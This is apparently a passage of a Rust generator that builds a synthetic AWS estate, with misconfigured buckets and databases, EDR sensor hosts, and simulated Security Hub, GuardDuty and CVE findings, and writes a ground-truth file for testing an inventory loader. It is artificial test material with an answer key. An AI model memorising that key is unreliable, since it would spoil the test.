        let site = sites.get(instance.site).ok_or_else(|| InventoryError::permanent("site index out of range"))?;
        let vpc = site.vpcs.get(instance.vpc);
        let az = vpc.and_then(|v| v.subnets.get(instance.subnet)).map(|s| s.az.clone()).unwrap_or_default();
        let external_ip = instance.public_ip.or_else(|| vpc.and_then(|v| v.nats.first()).map(|nat| nat.public_ip));
        // EC2 names a Windows host once, at first boot; every record of the instance has that name.
        let hostname = if instance.windows {
            format!("EC2AMAZ-{}", instance.id.chars().skip(3).take(7).collect::<String>().to_uppercase())
        } else {
            private_dns(instance.private_ip, &site.region)
        };
        let own = instance_id.as_deref() == Some(instance.id.as_str());
        // A reinstalled sensor on the same instance keeps the interface; any other machine on the
        // address (a ghost, an earlier host, the ambiguous one) has its own.
        let mac = if own { instance.mac } else { self.mac() };
        Ok(Host {
            device_id: self.id("", 32)?,
            account: site.account,
            az,
            instance_id,
            ip: instance.private_ip,
            mac,
            hostname,
            external_ip,
            first_seen,
            last_seen,
            agent_version: self.pick(instance.role.agent_versions()).unwrap_or("7.18.19106.0"),
            windows: instance.windows,
            instance_type: instance.instance_type,
            role: instance.role,
            status: DeviceStatus::Stale,
            case: DeviceCase::TerminatedInstance,
            owner: None,
        })
    }

    fn buckets(&mut self, spec: &EstateSpec, accounts: &[Account]) -> Result<Vec<Bucket>> {
        const PURPOSES: [&str; 12] = [
            "logs",
            "assets",
            "backups",
            "data-lake",
            "artifacts",
            "terraform-state",
            "uploads",
            "reports",
            "static-site",
            "cdn-origin",
            "athena-results",
            "exports",
        ];
        let weights: Vec<f64> = accounts.iter().map(|a| a.env.weight()).collect();
        let quotas = apportion(spec.buckets, &weights);
        let mut out = Vec::with_capacity(spec.buckets);
        for (a, quota) in quotas.iter().enumerate() {
            let Some(account) = accounts.get(a) else { continue };
            let mut log_bucket: Option<String> = None;
            for k in 0..*quota {
                let purpose = if k == 0 { "logs" } else { self.pick(&PURPOSES).unwrap_or("exports") };
                let name = self.id(&format!("{COMPANY}-{}-{purpose}-", account.name), 6)?;
                let region = spec.regions.get(self.below(spec.regions.len())).cloned().unwrap_or_default();
                let encryption = match self.below(20) {
                    0..=2 => None,
                    3..=12 => Some(("AES256", None)),
                    _ => Some(("aws:kms", Some(format!("arn:aws:kms:{region}:{}:key/{}", account.id, self.uuid())))),
                };
                let versioning = match self.below(10) {
                    0..=4 => Some("Enabled"),
                    5 => Some("Suspended"),
                    _ => None,
                };
                let logging_target = match &log_bucket {
                    Some(target) if self.chance(0.4) => Some(target.clone()),
                    _ => None,
                };
                if k == 0 {
                    log_bucket = Some(name.clone());
                }
                let block = match self.below(10) {
                    0..=6 => Some([true; 4]),
                    7 => Some([true, true, false, false]),
                    _ => None,
                };
                let policy_public = self.chance(0.4).then_some(false);
                out.push(Bucket {
                    name,
                    account: a,
                    region,
                    created: BASE_TIME - self.between(10 * DAY, 2000 * DAY),
                    purpose,
                    block,
                    policy_public,
                    acl_public: false,
                    log_delivery: k == 0,
                    encryption,
                    versioning,
                    logging_target,
                    public: false,
                    blocked_public: false,
                });
            }
        }
        // Public buckets: a public policy where the account allows one, else a public ACL; no
        // bucket-level block on them. Staging accounts block everything at account level.
        let mut open: Vec<usize> =
            (0..out.len()).filter(|&b| out.get(b).is_some_and(|x| x.purpose != "logs")).collect();
        self.shuffle(&mut open);
        let wanted = (spec.public_bucket_ratio * spec.buckets as f64).round() as usize;
        let mut made = 0;
        for b in open.iter().copied() {
            if made >= wanted {
                break;
            }
            let Some(bucket) = out.get_mut(b) else { continue };
            let Some(account) = accounts.get(bucket.account) else { continue };
            let block = account_block(account.env);
            let policy_allowed = !block.is_some_and(|b| b[2] || b[3]);
            let acl_allowed = !block.is_some_and(|b| b[1]);
            if !policy_allowed && !acl_allowed {
                continue;
            }
            bucket.block = if self.chance(0.5) { None } else { Some([false; 4]) };
            if policy_allowed {
                bucket.policy_public = Some(true);
                bucket.acl_public = acl_allowed && self.chance(0.3);
            } else {
                bucket.acl_public = true;
            }
            bucket.public = true;
            made += 1;
        }
        // Public ACL grants that a block neutralises: not public.
        let mut blocked = 0;
        for b in open.iter().copied().rev() {
            if blocked >= 2.max(wanted / 5) {
                break;
            }
            let Some(bucket) = out.get_mut(b) else { continue };
            if bucket.public {
                continue;
            }
            let Some(account) = accounts.get(bucket.account) else { continue };
            if !account_block(account.env).is_some_and(|b| b[1]) {
                bucket.block = Some([true, true, true, true]);
            }
            bucket.acl_public = true;
            bucket.blocked_public = true;
            blocked += 1;
        }
        Ok(out)
    }

    fn databases(&mut self, spec: &EstateSpec, accounts: &[Account], sites: &[Site]) -> Result<Vec<Database>> {
        const APPS: [&str; 8] = ["orders", "payments", "users", "catalog", "analytics", "inventory", "auth", "billing"];
        let weights: Vec<f64> = sites.iter().map(|s| accounts.get(s.account).map_or(1.0, |a| a.env.weight())).collect();
        let quotas = apportion(spec.databases, &weights);
        let unencrypted_target = (spec.unencrypted_db_ratio * spec.databases as f64).round() as usize;
        let mut order: Vec<usize> = (0..spec.databases).collect();
        self.shuffle(&mut order);
        let unencrypted: BTreeSet<usize> = order.into_iter().take(unencrypted_target).collect();
        let mut out = Vec::new();
        let mut ordinal = 0;
        for (s, quota) in quotas.iter().enumerate() {
            let Some(site) = sites.get(s) else { continue };
            let Some(account) = accounts.get(site.account) else { continue };
            for _ in 0..*quota {
                let app = self.pick(&APPS).unwrap_or("orders");
                let id = self.id(&format!("{}-{app}-db-", account.name), 4)?;
                let (engine, version) = if self.chance(0.7) { ("postgres", "16.4") } else { ("mysql", "8.0.39") };
                let encrypted = !unencrypted.contains(&ordinal);
                ordinal += 1;
                let prod = account.env == Env::Prod;
                let kms_key =
                    encrypted.then(|| format!("arn:aws:kms:{}:{}:key/{}", site.region, account.id, self.uuid()));
                let mut manual_snapshots = Vec::new();
                if self.chance(0.35) {
                    let restore = match self.below(10) {
                        0 => vec!["all".to_owned()],
                        1 | 2 => accounts.iter().filter(|o| o.id != account.id).map(|o| o.id.clone()).take(1).collect(),
                        _ => Vec::new(),
                    };
                    manual_snapshots.push((format!("{id}-pre-upgrade"), restore));
                }
                out.push(Database {
                    id,
                    site: s,
                    engine,
                    version,
                    class: if prod { "db.r6g.xlarge" } else { "db.t4g.medium" },
                    encrypted,
                    kms_key,
                    public: account.env == Env::Dev && self.chance(0.3) || self.chance(0.03),
                    backup_days: if account.env == Env::Dev && self.chance(0.5) { 0 } else { 7 },
                    multi_az: prod,
                    deletion_protection: prod && self.chance(0.8),
                    created: BASE_TIME - self.between(60 * DAY, 1200 * DAY),
                    resource_id: format!("db-{}", self.upper(26)),
                    manual_snapshots,
                });
            }
        }
        Ok(out)
    }

    fn load_balancers(&mut self, accounts: &[Account], sites: &[Site]) -> Result<Vec<LoadBalancer>> {
        let mut out = Vec::new();
        for (s, site) in sites.iter().enumerate() {
            let Some(account) = accounts.get(site.account) else { continue };
            let applications = (0..site.vpcs.len()).filter(|&v| site.vpcs[v].is_application());
            for (v, (internet_facing, kind)) in applications.flat_map(|v| [(v, (true, "web")), (v, (false, "api"))]) {
                // The main VPC's are named after the account, an extra VPC's after it too (`-svc1`).
                let label = match site.vpcs[v].name.rsplit_once('-') {
                    Some((_, suffix)) if v != 0 => format!("-{suffix}"),
                    _ => String::new(),
                };
                let name = format!("{}{label}-{kind}", account.name);
                let suffix = self.hex(16);
                let digits = self.rng.random_range(100_000_000u64..2_000_000_000);
                let dns = format!(
                    "{}{name}-{digits}.{}.elb.amazonaws.com",
                    if internet_facing { "" } else { "internal-" },
                    site.region
                );
                out.push(LoadBalancer {
                    site: s,
                    vpc: v,
                    label,
                    arn: format!(
                        "arn:aws:elasticloadbalancing:{}:{}:loadbalancer/app/{name}/{suffix}",
                        site.region, account.id
                    ),
                    target_group: format!(
                        "arn:aws:elasticloadbalancing:{}:{}:targetgroup/{name}-tg/{}",
                        site.region,
                        account.id,
                        self.hex(16)
                    ),
                    name,
                    dns_name: dns,
                    internet_facing,
                    // Development serves plain HTTP on its public load balancer.
                    https: !(internet_facing && account.env == Env::Dev),
                    created: BASE_TIME - self.between(100 * DAY, 900 * DAY),
                });
            }
        }
        Ok(out)
    }

    fn repositories(&mut self, accounts: &[Account], sites: &[Site]) -> Vec<Repository> {
        let mut out = Vec::new();
        for (s, site) in sites.iter().enumerate() {
            let env = accounts.get(site.account).map_or(Env::Dev, |a| a.env);
            let names: &[&str] =
                if env == Env::Dev { &["web", "api"] } else { &["web", "api", "worker", "batch-jobs"] };
            for name in names {
                out.push(Repository {
                    site: s,
                    name: format!("{COMPANY}/{name}"),
                    scan_on_push: self.chance(0.75),
                    mutable: self.chance(0.5),
                    kms: self.chance(0.3),
                    created: BASE_TIME - self.between(100 * DAY, 900 * DAY),
                });
            }
        }
        out
    }
}

/// Mixed into the seed for the network's own stream ("network").
const NETWORK_STREAM: u64 = 0x006e_6574_776f_726b;

impl Gen {
    /// Run `f` on a random stream of its own, then resume the main stream where it was.
    fn on_stream<T>(&mut self, seed: u64, f: impl FnOnce(&mut Self) -> Result<T>) -> Result<T> {
        let main = std::mem::replace(&mut self.rng, StdRng::seed_from_u64(seed));
        let out = f(self);
        self.rng = main;
        out
    }

    /// A service-managed interface in a subnet of `vpc`, public when `public`.
    fn managed_interface(&mut self, vpc: &mut Vpc, subnet: usize, public: bool) -> Result<ManagedInterface> {
        let private_ip = self.allocate(&mut vpc.subnets, subnet)?;
        let public_ip = if public { Some(self.public_ip()?) } else { None };
        Ok(ManagedInterface {
            eni: self.id("eni-0", 16)?,
            attachment: self.id("eni-attach-0", 16)?,
            subnet,
            private_ip,
            public_ip,
            mac: self.mac(),
        })
    }

    /// The interfaces of databases and load balancers, the Elastic IPs, and the peerings (with
    /// their routes).
    fn network_extras(
        &mut self,
        accounts: &[Account],
        sites: &mut [Site],
        instances: &[Instance],
        databases: &[Database],
        balancers: &[LoadBalancer],
    ) -> Result<NetworkExtras> {
        let mut out = NetworkExtras::default();
        for db in databases {
            let vpc = vpc_mut(sites, db.site, 0)?;
            // Zone a (where the record places it): a public subnet when publicly accessible.
            let subnet = if db.public { 0 } else { 3 };
            out.databases.push(self.managed_interface(vpc, subnet, db.public)?);
        }
        for lb in balancers {
            let vpc = vpc_mut(sites, lb.site, lb.vpc)?;
            // One interface per zone: in the public subnets when internet-facing, else the private.
            let zones = if lb.internet_facing { 0..3 } else { 3..STANDARD_SUBNETS };
            let interfaces =
                zones.map(|z| self.managed_interface(vpc, z, lb.internet_facing)).collect::<Result<_>>()?;
            out.balancers.push(interfaces);
        }
        // Bastions keep their address through replacement: an Elastic IP (web instances have
        // addresses assigned at launch).
        for instance in instances.iter().filter(|i| i.role == Role::Bastion && i.public_ip.is_some()) {
            let ids = (self.id("eipalloc-0", 16)?, self.id("eipassoc-0", 16)?);
            out.instance_eips.insert(instance.id.clone(), ids);
        }
        // Production keeps an address in reserve in every region, associated with nothing.
        for site in sites.iter() {
            let prod = accounts.get(site.account).is_some_and(|a| a.env == Env::Prod);
            let spare = if prod { vec![(self.id("eipalloc-0", 16)?, self.public_ip()?)] } else { Vec::new() };
            out.spare_eips.push(spare);
        }

        // Sites are per account, per region: the first account's two regions peer (active), the
        // last account's second region asked the first site and was never accepted. With extra
        // VPCs, production's main VPC peers with its first service VPC in every region.
        let regions = sites.iter().filter(|site| site.account == 0).count();
        let mut pairs: Vec<(VpcRef, VpcRef, bool)> = Vec::new();
        if regions >= 2 {
            pairs.push(((0, 0), (1, 0), true));
            if accounts.len() >= 2 {
                pairs.push((((accounts.len() - 1) * regions + 1, 0), (0, 0), false));
            }
        }
        for (s, site) in sites.iter().enumerate() {
            if accounts.get(site.account).is_some_and(|a| a.env == Env::Prod) {
                if let Some(v) = site.vpcs.iter().position(|vpc| vpc.name.ends_with("-svc1")) {
                    pairs.push(((s, 0), (s, v), true));
                }
            }
        }
        for (requester, accepter, active) in pairs {
            let id = self.id("pcx-0", 16)?;
            if active {
                let cidr = |sites: &[Site], (s, v): (usize, usize)| {
                    sites.get(s).and_then(|site| site.vpcs.get(v)).map(|vpc| vpc.cidr.clone()).unwrap_or_default()
                };
                let (requester_cidr, accepter_cidr) = (cidr(sites, requester), cidr(sites, accepter));
                vpc_mut(sites, requester.0, requester.1)?.peer_routes.push((accepter_cidr, id.clone()));
                vpc_mut(sites, accepter.0, accepter.1)?.peer_routes.push((requester_cidr, id.clone()));
            }
            let created = BASE_TIME - self.between(30 * DAY, 400 * DAY);
            out.peerings.push(Peering { id, requester, accepter, active, created });
        }
        Ok(out)
    }
}

fn vpc_mut(sites: &mut [Site], s: usize, v: usize) -> Result<&mut Vpc> {
    sites
        .get_mut(s)
        .and_then(|site| site.vpcs.get_mut(v))
        .ok_or_else(|| InventoryError::permanent(format!("generated estate: no VPC #{v} in site #{s}")))
}

/// The port the web and API tiers serve on behind their load balancers (their groups allow it from
/// the load balancers' groups).
const TARGET_PORT: i64 = 8080;

/// `…:targetgroup/<name>/<id>` → `<name>`.
fn target_group_name(arn: &str) -> &str {
    arn.split_once(":targetgroup/").and_then(|(_, tail)| tail.split('/').next()).unwrap_or_default()
}

fn cluster_or(cluster: &Option<String>) -> String {
    cluster.clone().unwrap_or_else(|| "eks".into())
}

/// `us-east-1` → `use1`.
fn short_region(region: &str) -> String {
    region
        .split('-')
        .map(|p| if p.chars().all(|c| c.is_ascii_digit()) { p.to_owned() } else { p.chars().take(2).collect() })
        .collect::<Vec<_>>()
        .join("")
}

/// The account-level public access block of an environment: staging blocks everything, production
/// ignores ACLs but allows public policies (the static site behind CloudFront), dev has none.
fn account_block(env: Env) -> Option<[bool; 4]> {
    match env {
        Env::Staging => Some([true; 4]),
        Env::Prod => Some([true, true, false, false]),
        Env::Dev => None,
    }
}

/// Split `total` over `weights` in proportion (largest remainders), in order.
fn apportion(total: usize, weights: &[f64]) -> Vec<usize> {
    let sum: f64 = weights.iter().sum();
    if weights.is_empty() || sum <= 0.0 {
        return vec![0; weights.len()];
    }
    let exact: Vec<f64> = weights.iter().map(|w| total as f64 * w / sum).collect();
    let mut out: Vec<usize> = exact.iter().map(|e| e.floor() as usize).collect();
    let mut rest: Vec<(usize, f64)> = exact.iter().enumerate().map(|(i, e)| (i, e - e.floor())).collect();
    rest.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
    let short = total.saturating_sub(out.iter().sum());
    for (i, _) in rest.into_iter().take(short) {
        if let Some(slot) = out.get_mut(i) {
            *slot += 1;
        }
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Writing: every file as the vendor returns it, counted with the tables' own record paths.
// ---------------------------------------------------------------------------------------------

/// Writes the folder and counts each table's records exactly as the loader will find them.
#[derive(Debug)]
struct Writer {
    root: PathBuf,
    counts: BTreeMap<&'static str, u64>,
}

impl Writer {
    fn aws_dir(&self, account: &str, region: &str) -> PathBuf {
        self.root.join("aws").join(account).join(region)
    }

    /// A list operation's pages, one response per line.
    fn pages(&mut self, dir: &Path, table: &'static Table, pages: impl IntoIterator<Item = Value>) -> Result<()> {
        let path = dir.join(format!("{}.jsonl", table.file));
        let mut out = create(&path)?;
        for page in pages {
            *self.counts.entry(table.name).or_default() += table.records_of(&page).len() as u64;
            serde_json::to_writer(&mut out, &page).map_err(|e| io_error(&path, e))?;
            out.write_all(b"\n").map_err(|e| io_error(&path, e))?;
        }
        out.flush().map_err(|e| io_error(&path, e))
    }

    /// More pages of a list operation, appended to its `.jsonl` file (created by the first call).
    fn append_pages(&mut self, dir: &Path, table: &'static Table, pages: Vec<Value>) -> Result<()> {
        let path = dir.join(format!("{}.jsonl", table.file));
        std::fs::create_dir_all(dir).map_err(|e| io_error(dir, e))?;
        let file = std::fs::OpenOptions::new().create(true).append(true).open(&path).map_err(|e| io_error(&path, e))?;
        let mut out = std::io::BufWriter::with_capacity(1 << 16, file);
        for page in pages {
            *self.counts.entry(table.name).or_default() += table.records_of(&page).len() as u64;
            serde_json::to_writer(&mut out, &page).map_err(|e| io_error(&path, e))?;
            out.write_all(b"\n").map_err(|e| io_error(&path, e))?;
        }
        out.flush().map_err(|e| io_error(&path, e))
    }

    /// One response (or a JSON array of responses): `<file>.json`, or `<file>/<parent>.json` for
    /// a call made per resource.
    fn single(&mut self, dir: &Path, table: &'static Table, parent: Option<&str>, page: &Value) -> Result<()> {
        let path = match parent {
            Some(parent) => dir.join(table.file).join(format!("{}.json", parent_file_name(parent))),
            None => dir.join(format!("{}.json", table.file)),
        };
        let records = match page {
            Value::Array(pages) => pages.iter().map(|p| table.records_of(p).len()).sum(),
            _ => table.records_of(page).len(),
        };
        *self.counts.entry(table.name).or_default() += records as u64;
        let mut out = create(&path)?;
        serde_json::to_writer(&mut out, page).map_err(|e| io_error(&path, e))?;
        out.flush().map_err(|e| io_error(&path, e))
    }
}

fn create(path: &Path) -> Result<std::io::BufWriter<std::fs::File>> {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).map_err(|e| io_error(dir, e))?;
    }
    let file = std::fs::File::create(path).map_err(|e| io_error(path, e))?;
    Ok(std::io::BufWriter::with_capacity(1 << 16, file))
}

/// How many records one page of the operation holds (the services' own maximums, at most 1,000).
fn page_size(table: &Table) -> usize {
    match table.file {
        "securityhub.get-findings"
        | "inspector2.list-findings"
        | "ecr.describe-repositories"
        | "rds.describe-db-instances"
        | "rds.describe-db-snapshots"
        | "route53.list-hosted-zones"
        | "cloudfront.list-distributions" => 100,
        "guardduty.get-findings" => 50,
        "elbv2.describe-load-balancers" | "elbv2.describe-target-groups" => 400,
        "route53.list-resource-record-sets" => 300,
        _ => 1000,
    }
}

/// The response envelope of one page of a list operation: the records under the member the
/// table's record path starts with, and the operation's continuation token on every page but
/// the last.
fn envelope(table: &Table, items: Vec<Value>, next: Option<String>) -> Value {
    let member = table.records.trim_start_matches('/').split('/').next().unwrap_or_default().to_owned();
    match table.file {
        "cloudfront.list-distributions" => {
            let mut list =
                json!({"Marker": "", "MaxItems": 100, "IsTruncated": next.is_some(), "Quantity": items.len()});
            if let Some(next) = next {
                list["NextMarker"] = json!(next);
            }
            if !items.is_empty() {
                list["Items"] = Value::Array(items);
            }
            json!({ "DistributionList": list })
        }
        "route53.list-hosted-zones" | "route53.list-resource-record-sets" => {
            let max = if table.file == "route53.list-hosted-zones" { "100" } else { "300" };
            let mut page = json!({ member: items, "IsTruncated": next.is_some(), "MaxItems": max });
            if let Some(next) = next {
                let key = if table.file == "route53.list-hosted-zones" { "NextMarker" } else { "NextRecordName" };
                page[key] = json!(next);
            }
            page
        }
        _ => {
            let token = match table.file.split('.').next().unwrap_or_default() {
                "rds" => "Marker",
                "elbv2" => "NextMarker",
                "inspector2" | "ecr" => "nextToken",
                "s3" => "ContinuationToken",
                _ => "NextToken",
            };
            let mut page = json!({ member: items });
            if let Some(next) = next {
                page[token] = json!(next);
            }
            page
        }
    }
}

/// Index helpers: the model's cross references are indexes built by the generator itself.
fn at<'a, T>(items: &'a [T], index: usize, what: &str) -> Result<&'a T> {
    items.get(index).ok_or_else(|| InventoryError::permanent(format!("generated estate: no {what} #{index}")))
}

const CONTROLS: &[(&str, &str, &str, &str)] = &[
    ("S3.8", "S3 general purpose buckets should block public access", "HIGH", "AwsS3Bucket"),
    ("S3.2", "S3 general purpose buckets should block public read access", "CRITICAL", "AwsS3Bucket"),
    ("EC2.8", "EC2 instances should use Instance Metadata Service Version 2 (IMDSv2)", "HIGH", "AwsEc2Instance"),
    (
        "EC2.19",
        "Security groups should not allow unrestricted access to ports with high risk",
        "CRITICAL",
        "AwsEc2SecurityGroup",
    ),
    (
        "EC2.18",
        "Security groups should only allow unrestricted incoming traffic for authorized ports",
        "HIGH",
        "AwsEc2SecurityGroup",
    ),
    (
        "RDS.2",
        "RDS DB Instances should prohibit public access, as determined by the PubliclyAccessible configuration",
        "CRITICAL",
        "AwsRdsDbInstance",
    ),
    ("RDS.3", "RDS DB instances should have encryption at-rest enabled", "MEDIUM", "AwsRdsDbInstance"),
    ("RDS.11", "RDS instances should have automatic backups enabled", "MEDIUM", "AwsRdsDbInstance"),
    ("RDS.1", "RDS snapshot should be private", "CRITICAL", "AwsRdsDbSnapshot"),
    (
        "ELB.1",
        "Application Load Balancer should be configured to redirect all HTTP requests to HTTPS",
        "MEDIUM",
        "AwsElbv2LoadBalancer",
    ),
];

/// One Security Hub control evaluated on one resource.
#[derive(Debug)]
struct Check {
    site: usize,
    control: &'static str,
    failed: bool,
    resource: String,
    region: String,
}

const GUARDDUTY_TYPES: &[(&str, &str, f64)] = &[
    ("UnauthorizedAccess:EC2/SSHBruteForce", "SSH brute force attacks against {id}.", 2.0),
    ("Recon:EC2/PortProbeUnprotectedPort", "Unprotected port on EC2 instance {id} is being probed.", 2.0),
    (
        "CryptoCurrency:EC2/BitcoinTool.B!DNS",
        "EC2 instance {id} is querying a domain name that is associated with Bitcoin-related activity.",
        8.0,
    ),
    (
        "Backdoor:EC2/C&CActivity.B!DNS",
        "EC2 instance {id} is querying a domain name associated with a known command and control server.",
        8.0,
    ),
    ("Trojan:EC2/DNSDataExfiltration", "Data exfiltration through DNS queries from EC2 instance {id}.", 8.0),
    (
        "UnauthorizedAccess:EC2/TorClient",
        "EC2 instance {id} is making connections to a Tor Guard or an Authority node.",
        8.0,
    ),
];

const VULNERABILITIES: &[(&str, &str, &str, &str, f64, &str)] = &[
    ("CVE-2024-6387", "openssh", "8.7p1-38.el9", "8.7p1-38.el9_4.1", 8.1, "HIGH"),
    ("CVE-2023-44487", "nghttp2", "1.43.0-5", "1.43.0-5.el9_3.1", 7.5, "HIGH"),
    ("CVE-2024-3094", "xz-libs", "5.6.0-1", "5.6.1-2", 10.0, "CRITICAL"),
    ("CVE-2023-38545", "curl", "7.76.1-26", "7.76.1-26.el9_3.2", 9.8, "CRITICAL"),
    ("CVE-2023-4863", "libwebp", "1.2.0-6", "1.2.0-8", 8.8, "HIGH"),
    ("CVE-2024-21626", "runc", "1.1.11-1", "1.1.12-1", 8.6, "HIGH"),
    ("CVE-2023-5363", "openssl", "3.0.7-24", "3.0.7-25", 7.5, "HIGH"),
    ("CVE-2024-2961", "glibc", "2.34-100", "2.34-100.el9_4.2", 7.3, "HIGH"),
    ("CVE-2023-48795", "openssh", "8.7p1-34", "8.7p1-38", 5.9, "MEDIUM"),
];

impl Estate {
    fn site_of(&self, account: usize, region: &str) -> Option<usize> {
        self.sites.iter().position(|s| s.account == account && s.region == region)
    }

    /// The instances registered with a load balancer's target group: its tier (web behind the
    /// internet-facing one, API behind the internal one) in its VPC.
    fn targets_of<'a>(&'a self, lb: &'a LoadBalancer) -> impl Iterator<Item = &'a Instance> + 'a {
        let tier = if lb.internet_facing { Role::Web } else { Role::Api };
        self.instances.iter().filter(move |i| i.site == lb.site && i.vpc == lb.vpc && i.role == tier)
    }

    fn account_of_site(&self, site: usize) -> Result<&Account> {
        let site = at(&self.sites, site, "site")?;
        at(&self.accounts, site.account, "account")
    }

    /// The security groups an instance is in: its role's group (the legacy VPC's app group there),
    /// plus the RDP group for Windows hosts where one exists.
    fn instance_groups(&self, instance: &Instance) -> Result<Vec<&Group>> {
        let vpc = at(&at(&self.sites, instance.site, "site")?.vpcs, instance.vpc, "VPC")?;
        let mut groups: Vec<&Group> =
            vpc.group(instance.role.group()).or_else(|| vpc.group("legacy-app")).into_iter().collect();
        if instance.windows {
            groups.extend(vpc.group("windows-rdp"));
        }
        if groups.is_empty() {
            groups.extend(vpc.group("default"));
        }
        Ok(groups)
    }

    fn truth(&self, spec: &EstateSpec, counts: BTreeMap<&'static str, u64>, dangling: Vec<String>) -> EstateTruth {
        let account_id = |a: usize| self.accounts.get(a).map(|x| x.id.clone()).unwrap_or_default();
        let mut instances: Vec<InstanceTruth> = self
            .instances
            .iter()
            .enumerate()
            .map(|(i, instance)| {
                let site = self.sites.get(instance.site);
                let account = site.and_then(|s| self.accounts.get(s.account));
                let coverage = self.sensors.coverage.get(i).copied().flatten();
                InstanceTruth {
                    instance_id: instance.id.clone(),
                    account_id: account.map(|a| a.id.clone()).unwrap_or_default(),
                    region: site.map(|s| s.region.clone()).unwrap_or_default(),
                    vpc_id: site.and_then(|s| s.vpcs.get(instance.vpc)).map(|v| v.id.clone()).unwrap_or_default(),
                    private_ip: dotted(instance.private_ip),
                    environment: account.map(|a| a.env.name().to_owned()).unwrap_or_default(),
                    role: instance.role.tag().to_owned(),
                    launch_time: aws_time(instance.launch),
                    edr: if coverage.is_some() { EdrStatus::Matched } else { EdrStatus::Unprotected },
                    matched_by: coverage.map(|(_, by)| by),
                    device_id: coverage.and_then(|(h, _)| self.sensors.hosts.get(h)).map(|h| h.device_id.clone()),
                }
            })
            .collect();
        instances.sort_by(|a, b| {
            (&a.account_id, &a.region, &a.instance_id).cmp(&(&b.account_id, &b.region, &b.instance_id))
        });
        let mut falcon_devices: Vec<DeviceTruth> = self
            .sensors
            .hosts
            .iter()
            .map(|h| DeviceTruth {
                device_id: h.device_id.clone(),
                status: h.status,
                case: h.case,
                instance_id: h.owner.and_then(|i| self.instances.get(i)).map(|i| i.id.clone()),
            })
            .collect();
        falcon_devices.sort_by(|a, b| a.device_id.cmp(&b.device_id));
        let sorted = |mut names: Vec<String>| {
            names.sort();
            names
        };
        let mut all_counts: BTreeMap<String, u64> = BTreeMap::new();
        for table in sources::all_tables() {
            all_counts.insert(table.name.to_owned(), counts.get(table.name).copied().unwrap_or(0));
        }
        EstateTruth {
            seed: spec.seed,
            base_time: z_time(BASE_TIME),
            accounts: self
                .accounts
                .iter()
                .enumerate()
                .map(|(a, x)| AccountTruth {
                    account_id: account_id(a),
                    name: x.name.clone(),
                    environment: x.env.name().to_owned(),
                })
                .collect(),
            instances,
            falcon_devices,
            public_buckets: sorted(self.buckets.iter().filter(|b| b.public).map(|b| b.name.clone()).collect()),
            blocked_public_buckets: sorted(
                self.buckets.iter().filter(|b| b.blocked_public).map(|b| b.name.clone()).collect(),
            ),
            unencrypted_databases: sorted(
                self.databases.iter().filter(|d| !d.encrypted).map(|d| d.id.clone()).collect(),
            ),
            public_db_snapshots: sorted(
                self.databases
                    .iter()
                    .flat_map(|d| &d.manual_snapshots)
                    .filter(|(_, restore)| restore.iter().any(|r| r == "all"))
                    .map(|(id, _)| id.clone())
                    .collect(),
            ),
            dangling_dns_records: sorted(dangling),
            counts: all_counts,
            network: self.network_truth(),
        }
    }

    fn network_truth(&self) -> NetworkTruth {
        let vpc_id = |(s, v): (usize, usize)| {
            self.sites.get(s).and_then(|site| site.vpcs.get(v)).map(|vpc| vpc.id.clone()).unwrap_or_default()
        };
        let mut load_balancers: Vec<LoadBalancerTruth> = self
            .balancers
            .iter()
            .enumerate()
            .map(|(l, lb)| {
                let mut targets: Vec<String> = self.targets_of(lb).map(|i| i.id.clone()).collect();
                targets.sort();
                let mut interfaces: Vec<String> =
                    self.network.balancers.get(l).into_iter().flatten().map(|m| m.eni.clone()).collect();
                interfaces.sort();
                LoadBalancerTruth {
                    arn: lb.arn.clone(),
                    dns_name: lb.dns_name.clone(),
                    internet_facing: lb.internet_facing,
                    target_group_arn: lb.target_group.clone(),
                    targets,
                    interfaces,
                }
            })
            .collect();
        load_balancers.sort_by(|a, b| a.arn.cmp(&b.arn));
        let database_interfaces =
            self.databases.iter().zip(&self.network.databases).map(|(d, m)| (d.id.clone(), m.eni.clone())).collect();
        let mut elastic_ips: Vec<ElasticIpTruth> = Vec::new();
        for nat in self.sites.iter().flat_map(|s| &s.vpcs).flat_map(|v| &v.nats) {
            elastic_ips.push(ElasticIpTruth {
                allocation_id: nat.allocation.clone(),
                public_ip: dotted(nat.public_ip),
                network_interface_id: Some(nat.eni.clone()),
            });
        }
        for instance in &self.instances {
            if let (Some((allocation, _)), Some(ip)) =
                (self.network.instance_eips.get(&instance.id), instance.public_ip)
            {
                elastic_ips.push(ElasticIpTruth {
                    allocation_id: allocation.clone(),
                    public_ip: dotted(ip),
                    network_interface_id: Some(instance.eni.clone()),
                });
            }
        }
        for (allocation, ip) in self.network.spare_eips.iter().flatten() {
            elastic_ips.push(ElasticIpTruth {
                allocation_id: allocation.clone(),
                public_ip: dotted(*ip),
                network_interface_id: None,
            });
        }
        elastic_ips.sort_by(|a, b| a.allocation_id.cmp(&b.allocation_id));
        let mut peerings: Vec<PeeringTruth> = self
            .network
            .peerings
            .iter()
            .map(|p| PeeringTruth {
                id: p.id.clone(),
                requester_vpc_id: vpc_id(p.requester),
                accepter_vpc_id: vpc_id(p.accepter),
                status: if p.active { "active" } else { "pending-acceptance" }.to_owned(),
            })
            .collect();
        peerings.sort_by(|a, b| a.id.cmp(&b.id));
        NetworkTruth { load_balancers, database_interfaces, elastic_ips, peerings }
    }
}

impl Gen {
    /// Split a list of records into the operation's pages.
    fn paged(&mut self, table: &Table, records: Vec<Value>) -> Vec<Value> {
        let size = page_size(table);
        let mut pages = Vec::new();
        let mut rest = records;
        loop {
            let tail = if rest.len() > size { rest.split_off(size) } else { Vec::new() };
            let next = (!tail.is_empty()).then(|| self.hex(48));
            pages.push(envelope(table, rest, next));
            if tail.is_empty() {
                return pages;
            }
            rest = tail;
        }
    }

    fn findings(&mut self, spec: &EstateSpec, estate: &Estate) -> Result<Vec<SiteFindings>> {
        let mut out: Vec<SiteFindings> = estate.sites.iter().map(|_| SiteFindings::default()).collect();
        let securityhub_total = spec.findings * 6 / 10;
        let guardduty_total = spec.findings * 15 / 100;
        let inspector_total = spec.findings - securityhub_total - guardduty_total;

        let mut failed = Vec::new();
        let mut passed = Vec::new();
        let mut check = |site: usize, control: &'static str, bad: bool, resource: String, region: &str| {
            let c = Check { site, control, failed: bad, resource, region: region.to_owned() };
            if bad {
                failed.push(c);
            } else {
                passed.push(c);
            }
        };
        for bucket in &estate.buckets {
